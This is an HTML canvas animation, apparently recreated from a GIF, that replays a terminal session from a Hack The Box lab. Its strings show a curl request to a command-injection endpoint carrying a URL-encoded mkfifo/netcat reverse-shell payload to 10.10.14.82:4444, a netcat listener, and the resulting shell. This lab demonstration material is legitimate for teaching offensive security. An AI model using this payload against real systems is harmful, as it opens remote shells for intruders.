
An HTML page with a canvas that plays this animation: 947 px wide and 240 px high, repeating every 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Split terminal</title>
<style>
html, body { margin: 0; width: 947px; height: 240px; overflow: hidden; background: #191b24; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="947" height="240"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 8000, TICK = 200 / 3;
const CELL = 8, LINE = 18, TOP = 2, LOW = 103;
const MONO = '13.3333px "Noto Sans Mono", "DejaVu Sans Mono", monospace';
const RED = '#d41919', BLUE = '#2777ff', WHITE = '#ffffff', INK = '#20222a', PANE = '#26272c';
const USER = 'user', HOST = 'kali';
const CURL = 'curl http://10.10.11.164/shell?cmd=';
const PAYLOAD = [
  'rm%20%2Ftmp%2Ff%3Bmkfifo%20%2Ftmp%2Ff%3Bcat%20%2Ftmp%2Ff%7C%2Fbin%2Fsh%20',
  '-i%202%3E%261%7Cnc%2010.10.14.82%204444%20%3E%2Ftmp%2Ff'
];
const COMMAND = 'nc -nvlp 4444';
const KEYS = [2200, 2270, 2330, 2400, 2600, 2670, 2730, 2800, 3000, 3070, 3200, 3400, 3600];
const LISTEN = [
  'Ncat: Version 7.92 ( https://nmap.org/ncat )',
  'Ncat: Listening on :::4444',
  'Ncat: Listening on 0.0.0.0:4444'
];
const CONNECT = ['Ncat: Connection from 10.10.11.164.', 'Ncat: Connection from 10.10.11.164:33831.'];
const SHELL = ["/bin/sh: can't access tty; job control turned off", '/app # '];

// Each track is a list of [time, x, y]; the pointer is hidden between tracks.
const TRACKS = [
  { end: 2200, keys: [[0, 775, 168], [200, 745, 198], [400, 700, 184], [535, 700, 184], [800, 672, 161],
    [1266, 672, 161], [1533, 541, 44], [1933, 541, 44], [2000, 380, 44]] },
  { end: 6870, dark: true, keys: [[4200, 380, 44], [4533, 443, 181], [4800, 443, 181], [5000, 810, 218]] },
  { end: LOOP, keys: [[7666, 755, 198], [7933, 632, 136]] }
];

const within = (t, a, b) => t >= a && t < b;
const colX = col => CELL + col * CELL;

function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function text(str, col, y, color = WHITE, bold = false) {
  ctx.font = (bold ? '700 ' : '500 ') + MONO;
  ctx.textAlign = 'left';
  ctx.fillStyle = color;
  ctx.fillText(str, colX(col), y + 13);
}

function block(col, y, hollow) {
  if (!hollow) return rect(colX(col), y, CELL, LINE, WHITE);
  ctx.strokeStyle = WHITE;
  ctx.lineWidth = 1;
  ctx.strokeRect(colX(col) - 0.5, y - 0.5, CELL + 1, LINE + 1);
}

function dot(x, y, rx, ry, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.ellipse(x, y, rx, ry, 0, 0, Math.PI * 2);
  ctx.fill();
}

function skull(x, y) {
  const bone = '#dcdcdc', hole = '#24252b';
  ctx.save();
  ctx.globalAlpha = 1;
  dot(x + 8, y + 8, 6.6, 6.2, bone);
  rect(x + 4.2, y + 11, 7.6, 5, bone);
  dot(x + 5.1, y + 9, 1.9, 2.1, hole);
  dot(x + 10.9, y + 9, 1.9, 2.1, hole);
  dot(x + 8, y + 12, 0.9, 1, hole);
  for (const dx of [6, 8, 10]) rect(x + dx - 0.25, y + 14, 0.5, 2, hole);
  ctx.restore();
}

function prompt(y, path) {
  rect(12, y + 9, 20, 1, BLUE);
  rect(12, y + 9, 1, LINE, BLUE);
  rect(12, y + 27, 12, 1, BLUE);
  text('(', 3, y, BLUE);
  text(USER, 4, y, RED, true);
  skull(colX(8), y);
  text(HOST, 10, y, RED, true);
  text(')-[', 14, y, BLUE);
  text(path, 17, y, WHITE, true);
  text(']', 17 + path.length, y, BLUE);
  text('#', 2, y + LINE, RED, true);
}

function backdrop() {
  rect(0, 0, 947, 240, '#1b1d26');
  rect(7, 0, 527, 234, PANE);
  rect(0, 0, 2, 234, '#c9cbcf');
  rect(0, 234, 947, 6, '#191b24');
}

function groupButton(active) {
  if (active) rect(11, 86, 12, 12, '#20222a');
  const fill = active ? '#d8232a' : '#d5d5d5';
  rect(12, 87, 5, 5, fill);
  rect(18, 87, 4, 5, fill);
  rect(12, 93, 5, 4, active ? '#f0f0f0' : fill);
  ctx.fillStyle = WHITE;
  ctx.beginPath();
  ctx.moveTo(17.5, 94);
  ctx.lineTo(23.5, 94);
  ctx.lineTo(20.5, 98);
  ctx.fill();
}

function titleBar(active) {
  rect(2, 77, 945, 6, '#1c1e26');
  rect(7, 78, 940, 1, '#08090c');
  rect(7, 82, 940, 1, '#08090c');
  rect(7, 83, 940, 19, active ? BLUE : '#23252e');
  rect(31, 83, 1, 19, active ? '#236be4' : '#1f2129');
  groupButton(active);
  ctx.font = '13.6px "Noto Sans", "Open Sans", sans-serif';
  ctx.textAlign = 'center';
  ctx.fillStyle = WHITE;
  ctx.fillText(`${USER}@${HOST}: ~/htb 117x52`, 495.5, 98);
}

function topPane(t) {
  const focused = t < 4730;
  const row = i => TOP + i * LINE;
  ctx.globalAlpha = focused ? 1 : 0.8;
  let lines = [], col = 0;
  if (t < 3730) {
    const path = '~/htb/open_source/10.10.11.164/loot/source/app/app';
    const typed = KEYS.filter(k => t >= k).length;
    prompt(row(0), path);
    prompt(row(2), path);
    text(COMMAND.slice(0, typed), 4, row(3));
    col = 4 + typed;
  } else if (t < 7670) {
    lines = LISTEN;
  } else if (t < 7800) {
    lines = [LISTEN[2], ...CONNECT];
  } else {
    lines = [...CONNECT, ...SHELL];
    col = SHELL[1].length;
  }
  lines.forEach((s, i) => text(s, 0, row(i)));
  const off = within(t, 130, 730) || within(t, 1330, 2000) || within(t, 4330, 4730);
  if (!off) block(col, row(3), !focused);
  ctx.globalAlpha = 1;
}

function lowPane(t) {
  const focused = t >= 4730, selected = t < 6870;
  // The link stays marked while the pointer is in the other pane.
  const marked = t < 200 || within(t, 800, 4870);
  const row = i => LOW + i * LINE;
  ctx.globalAlpha = focused ? 1 : 0.8;
  prompt(row(0), '~/htb');
  text(CURL + 'ping+10.10.14.82^C', 4, row(1));
  prompt(row(2), '~/htb');
  text(CURL + 'curl+', 4, row(3));
  PAYLOAD.forEach((s, i) => {
    const col = i ? 0 : 44, y = row(3 + i), width = s.length * CELL;
    if (selected) rect(colX(col), y, width, LINE, WHITE);
    ctx.save();
    if (selected) ctx.globalAlpha = 1;
    text(s, col, y, selected ? INK : WHITE);
    if (marked) rect(colX(col), y + LINE - 1, width, 1, INK);
    ctx.restore();
  });
  const off = within(t, 5270, 5870) || within(t, 6470, 6870) || t >= 7530;
  if (!off) {
    if (t < 6930) block(PAYLOAD[1].length, row(4), !focused);
    else block(0, row(5), false);
  }
  ctx.globalAlpha = 1;
}

function overLink(x, y) {
  return within(y, 121, 139) && within(x, 80, 464)
    || within(y, 157, 175) && within(x, 80, 944)
    || within(y, 175, 193) && within(x, 8, 448);
}

const hand = new Path2D('M-2 1Q0-2 2 1V7Q4 6 5 8Q7 7 8 9Q11 8 11 11V14Q11 17 9 18V21H0V19L-5 13Q-7 10-4 10L-2 12Z');
const beam = new Path2D('M-3-8H-1L0-7L1-8H3M0-7V7M-3 8H-1L0 7L1 8H3');

function pointer(t) {
  const track = TRACKS.find(k => within(t, k.keys[0][0] - 1, k.end));
  if (!track) return;
  const keys = track.keys;
  const next = keys.findIndex(k => k[0] > t);
  const b = next < 0 ? keys[keys.length - 1] : keys[next];
  const a = next > 0 ? keys[next - 1] : b;
  const p = a === b ? 1 : (t - a[0]) / (b[0] - a[0]);
  const x = Math.round(a[1] + (b[1] - a[1]) * p);
  const y = Math.round(a[2] + (b[2] - a[2]) * p);
  ctx.save();
  ctx.translate(x + 0.5, y + 0.5);
  ctx.lineJoin = 'round';
  if (overLink(x, y)) {
    const [fill, edge] = track.dark ? ['#111', WHITE] : [WHITE, '#000'];
    ctx.lineWidth = 1.2;
    ctx.fillStyle = fill;
    ctx.strokeStyle = edge;
    ctx.fill(hand);
    ctx.stroke(hand);
    for (const dx of [3, 6]) rect(dx - 0.4, 13, 0.8, 4, '#555');
  } else {
    for (const [w, c] of [[3.6, '#000'], [1.6, WHITE]]) {
      ctx.lineWidth = w;
      ctx.strokeStyle = c;
      ctx.stroke(beam);
    }
  }
  ctx.restore();
}

function draw(now) {
  const t = now % LOOP;
  const tick = Math.floor((t + 3.5) / TICK);
  const step = Math.min(Math.round(tick * TICK / 10) * 10, LOOP - 1);
  backdrop();
  titleBar(step >= 4730);
  topPane(step);
  lowPane(step);
  pointer(step);
}

const start = performance.now();
function loop() {
  draw(performance.now() - start);
  requestAnimationFrame(loop);
}
loop();
</script>
</body>
</html>
```
